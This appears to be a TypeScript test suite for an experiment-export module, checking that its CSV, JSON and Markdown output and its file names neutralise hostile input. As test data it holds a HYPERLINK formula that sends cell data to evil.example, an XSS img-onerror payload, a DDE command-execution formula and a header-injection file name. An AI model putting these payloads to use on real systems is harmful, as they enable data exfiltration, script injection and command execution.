import fc from "fast-check";
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { buildExperiment } from "#e2e/builders.ts";
import { summaryOf } from "../data/record.ts";
import type { Experiment } from "../experiment/schema.ts";
import { COLUMNS } from "./columns.ts";
import { csvCell, csvLine } from "./csv.ts";
import { experimentMarkdown } from "./experiment-markdown.ts";
import { attachment, exportFileName } from "./file-name.ts";
import { ExportFileSchema } from "./file-schema.ts";
import { markdownText } from "./markdown-text.ts";
import { type ExportFormat, type ExportSource, writeExport } from "./write-export.ts";

const NOW = new Date("2026-11-23T12:00:00.000Z");
const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x"), [click](http://evil.example) <img src=x onerror=alert(1)> | `code` **bold**\nsecond line ![p](q) @all';

async function write(format: ExportFormat, experiments: readonly Experiment[], detail: "row" | "record" = "row", origin: string | null = null): Promise<string> {
  const records = (async function* () {
    yield* experiments;
  })();
  const rows = (async function* () {
    yield* experiments.map(summaryOf);
  })();
  const source: ExportSource = detail === "record" ? { detail, rows: records } : { detail, rows };
  const pieces: string[] = [];
  for await (const piece of writeExport(format, source, { now: NOW, origin })) pieces.push(piece);
  return pieces.join("");
}

/** RFC 4180, read strictly. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (!match) throw new Error("not a cell");
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "\r\n") rows.push([]);
  }
  rows.pop();
  return rows;
}

describe("a CSV export", () => {
  it("has a stable head, a line an experiment, and numbers as numbers", async () => {
    const experiment = buildExperiment({ id: "exp-a", rateFactors: [1.2] });
    const [head, row, ...more] = parseCsv(await write("csv", [experiment]));
    expect(more).toEqual([]);
    expect(head).toEqual(COLUMNS.map(({ name }) => name));
    const value = (name: string) => row?.[head?.indexOf(name) ?? -1];
    expect(value("id")).toBe("exp-a");
    expect(Number(value("reduction_percent"))).toBeCloseTo(experiment.headline?.reductionPercent ?? 0, 4);
    expect(value("reduction_percent")).toMatch(/^-\d/);
    expect(value("claimed_reduction_percent")).toBe("");
    expect(await write("csv", [])).toBe(csvLine(COLUMNS.map(({ name }) => name)));
  });

  it("never lets a text be a formula, and gives back every text", () => {
    for (const text of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1", "＝1", "\n=cmd|' /C calc'!A0"]) expect(parseCsv(csvLine([text]))[0]?.[0]).toBe(`'${text}`);
    expect([csvCell(-12.5), csvCell(null), csvCell(true), csvCell('say "a,b"')]).toEqual(["-12.5", "", "true", '"say ""a,b"""']);
    const texts = fc.array(fc.string({ unit: "grapheme" }).filter((text) => !/^\s*[=+\-@\t\r＝＋－＠]/.test(text) && !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(text)), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(texts, (cells) => {
        expect(parseCsv(csvLine(cells))).toEqual([cells]);
      }),
      { numRuns: 200 },
    );
  });

  it("has its columns, with units, listed in the README", () => {
    const readme = readFileSync(new URL("README.md", import.meta.url), "utf8");
    const listed = [...readme.matchAll(/^\| `(\w+)` \| (.*) \|$/gm)].map(([, name, note]) => [name, note]);
    expect(listed).toEqual(COLUMNS.map(({ name, note }) => [name, note]));
  });
});

describe("a JSON export", () => {
  it("fits its schema as rows and as records, one experiment a line, without names of machines and keys", async () => {
    const experiments = ["a", "b"].map((id) => buildExperiment({ id, owner: "host-17-secret", artifacts: [{ name: "n.json", key: "experiments/secret/1/n.json", bytes: 1, sha256: "0", contentType: "application/json" }] }));
    for (const detail of ["row", "record"] as const) {
      const text = await write("json", experiments, detail);
      const file = ExportFileSchema.parse(JSON.parse(text));
      expect([file.count, file.experiments.map(({ id }) => id), file.generatedAt]).toEqual([2, ["a", "b"], NOW.toISOString()]);
      expect(text).not.toContain("secret");
      expect(text.split("\n").filter((line) => line.startsWith("{\"id\""))).toHaveLength(2);
    }
    expect(ExportFileSchema.parse(JSON.parse(await write("json", []))).experiments).toEqual([]);
  });
});

describe("a Markdown export", () => {
  it("shows a result, each clip, what was passed to the encoder, and hashes", () => {
    const experiment = buildExperiment({ id: "exp-a", hypothesis: "Preset 6 is enough." });
    const text = experimentMarkdown(experiment, "http://lab.example/blog/exp-a");
    expect(text).toContain("## Preset 6 is enough.");
    expect(text).toMatch(/\*\*↓ \d+\.\d % smaller/);
    expect(text).toContain("[exp-a](http://lab.example/blog/exp-a)");
    for (const { clip, points } of experiment.results?.clips ?? []) {
      expect(text).toContain(clip.sha256);
      expect(text).toContain(points[0]?.sha256.slice(0, 16));
    }
    expect(text).toContain("`preset=6`");
    expect(text).toContain(experiment.resultDigest);
    const widths = text.split("\n").filter((line) => line.startsWith("|")).map((line) => line.replaceAll("\\|", "").split("|").length);
    expect(new Set(widths).size).toBeLessThanOrEqual(3);
  });

  it("says what an imported record is and what is wrong with it", () => {
    const imported = { source: "post-mortem" as const, originalId: "proc_1", fileSha256: "ab", flags: [{ code: "empty-output" as const, note: "0 bytes." }], issues: [] };
    const text = experimentMarkdown(buildExperiment({ id: "i", plan: null, verdict: "unverified", imported, origin: "imported" }), null);
    expect(text).toContain("Imported, unverified");
    expect(text).toContain("- empty output: 0 bytes.");
  });

  it("makes a table of several, with a link each where the address is known", async () => {
    const lines = (await write("md", [buildExperiment({ id: "a" }), buildExperiment({ id: "b", hypothesis: HOSTILE })], "row", "https://lab.example")).split("\n").filter((line) => line.startsWith("|"));
    expect(lines).toHaveLength(4);
    expect(lines[2]).toContain("](https://lab.example/blog/a)");
    expect(new Set(lines.map((line) => line.replaceAll(/\\./g, "").split("|").length)).size).toBe(1);
  });

  it("shows hostile text as that text: no link, no picture, no HTML, no cell of its own", () => {
    const text = markdownText(HOSTILE);
    expect(text).not.toContain("\n");
    // Every character that could start something stands behind a backslash, which CommonMark takes away again.
    expect(text.replaceAll(/\\[\\`*_[\]<>|~#&!]/g, "")).not.toMatch(/[`*[\]<>|#&!]/);
    expect(experimentMarkdown(buildExperiment({ id: "x", hypothesis: HOSTILE, finding: HOSTILE, verdictReason: HOSTILE }), null)).not.toMatch(/(?<!\\)<img|(?<!\\)\[click|(?<!\\)!\[/);
  });
});

describe("the name of a download", () => {
  it("holds nothing but letters, digits and dashes", () => {
    expect(exportFileName(["experiments", "../../x\"; y\r\nSet-Cookie: a", "2026-11-23"], "csv")).toBe("experiments-x-y-Set-Cookie-a-2026-11-23.csv");
    expect(exportFileName(["実験"], "md")).toBe("export.md");
    expect(attachment(exportFileName(["a".repeat(500)], "json")).length).toBeLessThan(150);
  });
});
